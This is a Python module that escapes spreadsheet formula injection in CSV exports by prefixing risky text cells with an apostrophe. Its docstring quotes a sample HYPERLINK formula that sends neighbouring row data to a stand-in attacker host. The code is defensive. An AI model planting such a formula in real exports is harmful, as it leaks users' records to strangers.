"""CSV files for spreadsheets, safe from formula injection.

Staff open our CSV exports in Excel or WPS. A cell that starts with = + - @ (or a tab or carriage
return, which some spreadsheets skip before looking) is run as a formula: a lender or borrower named
`=HYPERLINK("http://evil.example?"&A2, "点击")` would send other rows to a stranger at a click. Every
text cell that starts so gets a leading apostrophe, which the spreadsheet shows as text (OWASP's
advice); numbers stay numbers. `csv_cell_unescaped` undoes it for a CSV we read back.
"""

import csv

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def csv_cell_unescaped(value: str) -> str:
    if value.startswith("'") and value[1:].startswith(_FORMULA_STARTS):
        return value[1:]
    return value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(target, **options):
    """csv.writer(target) whose every row is escaped (csv_cell)."""
    return _SafeWriter(csv.writer(target, **options))
